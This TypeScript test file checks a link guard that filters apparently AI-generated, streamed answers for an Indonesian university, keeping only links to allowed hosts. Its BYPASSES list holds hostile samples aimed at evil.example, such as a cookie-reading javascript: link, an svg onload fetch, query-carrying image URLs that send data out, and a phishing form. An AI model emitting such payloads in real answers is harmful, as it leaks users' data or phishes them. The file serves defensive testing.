import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { hostAllowlist, isAllowed } from "../src/answering/allowed-hosts";
import { guardLinks, HOLD_BACK_CHARS, LinkGuard } from "../src/answering/link-guard";
import { rendered } from "./rendered-links";

const allowed = hostAllowlist("unm.ac.id, kemdikbud.go.id");

function streamed(pieces: string[]): string {
  const guard = new LinkGuard(allowed);
  return pieces.map((piece) => guard.push(piece)).join("") + guard.flush();
}

const byChars = (text: string) => streamed([...text]);

/** Fails unless a renderer given `markdown` would load or link only to allowed hosts, and pass no HTML. */
function expectSafe(markdown: string): void {
  const { rawHtml, targets } = rendered(markdown);
  expect(rawHtml, markdown).toBe(false);
  for (const target of targets) expect(isAllowed(target, allowed), `${target} in ${markdown}`).toBe(true);
}

// Every form an answer has smuggled a link or HTML past a guard in, with the text a reader should still see.
const BYPASSES: Array<[string, string, RegExp?]> = [
  ["a protocol-relative link", "Daftar di [portal resmi](//evil.example/phish) sekarang.", /portal resmi/],
  [
    "a link whose label spans two lines",
    "Klik [tautan\npembayaran](https://evil.example/bayar) ini.",
    /tautan\npembayaran/,
  ],
  [
    "a link with nested brackets",
    "Lihat [jadwal [resmi] wisuda](https://evil.example/j) ya.",
    /jadwal \[resmi\] wisuda/,
  ],
  [
    "a reference image and its definition",
    "Status: ![status][1] dan [rincian][1].\n\n[1]: //evil.example/px.gif",
    /rincian/,
  ],
  [
    "a definition used before it appears",
    "[bayar di sini][loket]\n\n[loket]: https://evil.example/loket",
    /bayar di sini/,
  ],
  ["a javascript: autolink", "Buka <javascript:alert(document.cookie)> sekarang."],
  ["an ftp: autolink", "Unduh <ftp://evil.example/berkas.zip> dulu."],
  ["a bare URL", "Riwayat ada di https://evil.example/dump?sesi=semua sekarang."],
  ["a www. URL", "Kunjungi www.evil.example/bayar untuk membayar."],
  ["an HTML tag split over lines", 'Klik <a\nhref="https://evil.example/x">di sini</a> ya.', /di sini/],
  ["an iframe", 'Video: <iframe src="https://evil.example/v"></iframe> selesai.'],
  ["an svg", 'Logo <svg onload="fetch(`//evil.example`)"><circle r="1"/></svg> kampus.'],
  ["a form", '<form action="https://evil.example/login">\n<input name="nim">\n</form>\n\nIsi formulir.'],
  ["an HTML comment", "Awal <!-- ![x](https://evil.example/c) --> akhir."],
  ["an image of an outside host", "Lihat ![grafik](https://evil.example/log?q=biaya%20(asrama)) di atas.", /grafik/],
  ["an image inside an allowed link's text", "[![x](https://evil.example/p.png) PMB](https://pmb.unm.ac.id)"],
  ["a link rebuilt by removing an inner one", "[[a](https://evil.example)](https://evil.example/2)"],
  ["a look-alike host", "Masuk ke https://unm.ac.id.evil.example/login sekarang."],
  ["a mail address on an outside host", "Kirim berkas ke pmb@evil.example segera."],
];

describe("links and images in answers", () => {
  for (const [form, text, kept] of BYPASSES) {
    it(`removes ${form}, read whole or token by token`, () => {
      for (const guarded of [guardLinks(text, allowed), byChars(text), streamed(text.split(/(?<= )/))]) {
        expect(guarded).not.toMatch(/evil\.example|javascript:|<\w/);
        expectSafe(guarded);
        if (kept) expect(guarded).toMatch(kept);
      }
    });
  }

  it("keeps images, links and URLs on allowed hosts and their subdomains, and mail to them", () => {
    const text =
      "Daftar di [PMB](https://pmb.unm.ac.id/daftar), logo ![logo](https://unm.ac.id/logo.png), info https://kemdikbud.go.id, surat ke pmb@unm.ac.id.\n\n[1]: https://unm.ac.id/a";
    expect(guardLinks(text, allowed)).toBe(text);
    expect(byChars(text)).toBe(text);
  });

  it("judges a bare URL by the address a renderer would link, not the host it seems to name", () => {
    // Rendered, "https://unm.ac.id\\" links to "https://unm.ac.id%5C": no longer an allowed host.
    for (const answer of ["Lihat https://unm.ac.id\\ ya.", "Lihat https://unm.ac.id\\"]) {
      expectSafe(guardLinks(answer, allowed));
      expectSafe(byChars(answer));
    }
  });

  it("leaves ordinary text, citation markers, prices and comparisons alone", () => {
    const text = "Biaya [1] adalah Rp 750.000 (per bulan), tidak termasuk listrik [2]! Nilai < 5 tidak lulus; 5 > 4.";
    expect(guardLinks(text, allowed)).toBe(text);
    expect(byChars(text)).toBe(text);
  });

  it("sends nothing a renderer would load or link outside the allowed hosts, however the answer is split", () => {
    const fragment = fc.constantFrom(
      ..."ab h[]()!<>:/. \n\"'`\\*-#".split(""),
      "http",
      "https://",
      "//",
      "www.",
      "evil.example",
      "unm.ac.id",
      "![",
      "](",
      "]: ",
      "<a href=",
      "<img src=",
      "<!--",
      "-->",
      "```\n",
      "    ",
      "\n\n",
      "@",
    );
    const text = fc.array(fragment, { maxLength: 40 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(text, fc.array(fc.integer({ min: 1, max: 8 }), { minLength: 1, maxLength: 10 }), (answer, sizes) => {
        const pieces: string[] = [];
        for (let at = 0, i = 0; at < answer.length; i++) {
          const size = sizes[i % sizes.length] as number;
          pieces.push(answer.slice(at, at + size));
          at += size;
        }
        expectSafe(streamed(pieces));
        expectSafe(guardLinks(answer, allowed));
      }),
      { numRuns: 1000 },
    );
  });

  it("sends prose with allowed links and citation markers unchanged, however it is split", () => {
    const part = fc.constantFrom(
      "Biaya kuliah ",
      "Rp 5.000.000 ",
      "per semester. ",
      "[1] ",
      "[PMB](https://pmb.unm.ac.id/daftar) ",
      "https://unm.ac.id/jadwal ",
      "www.unm.ac.id ",
      "\n\n",
      "- butir daftar\n",
      "**penting** ",
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 30 }), fc.integer({ min: 1, max: 9 }), (parts, size) => {
        const answer = parts.join("");
        const pieces = answer.match(new RegExp(`[\\s\\S]{1,${size}}`, "g")) ?? [];
        expect(streamed(pieces)).toBe(answer);
      }),
      { numRuns: 500 },
    );
  });

  it("holds back while a link may still be forming, and never more than a few hundred characters", () => {
    const guard = new LinkGuard(allowed);
    expect(guard.push("Biaya kuliah ")).toBe("Biaya kuliah ");
    let sent = guard.push("lihat ![peta");
    sent += guard.push("](https://evil.example/?q=rahasia)");
    expect(sent).not.toContain("peta");
    sent += guard.push(" dan [1] ") + guard.flush();
    expect(sent).toBe("lihat peta dan [1] ");

    // A bracket that never closes cannot keep the rest of the answer waiting.
    const long = new LinkGuard(allowed);
    const text = `[${"kata ".repeat(400)}](https://evil.example)`;
    let streamedOut = "";
    for (const [i, char] of [...text].entries()) {
      streamedOut += long.push(char);
      expect(i + 1 - streamedOut.length).toBeLessThanOrEqual(HOLD_BACK_CHARS);
    }
    streamedOut += long.flush();
    expectSafe(streamedOut);
    expect(streamedOut).toContain("kata kata");
  });

  it("takes time linear in the answer, even for text built to make it look back", async () => {
    const hostile = ["‹[[[", "[a ", "<a b='", "*[_[`<!-- "];
    for (const unit of hostile) {
      const cost = async (count: number) => {
        const text = unit.repeat(count);
        const started = performance.now();
        guardLinks(text, allowed);
        streamed(text.match(/[\s\S]{1,4}/g) ?? []);
        // The Workers runtime advances its clock only across I/O.
        await scheduler.wait(1);
        return performance.now() - started;
      };
      await cost(100); // warm up
      const small = await cost(300);
      const large = await cost(1200);
      // Four times the text; a quadratic guard would take about sixteen times as long.
      expect(large / small, unit).toBeLessThan(8);
    }
  });
});
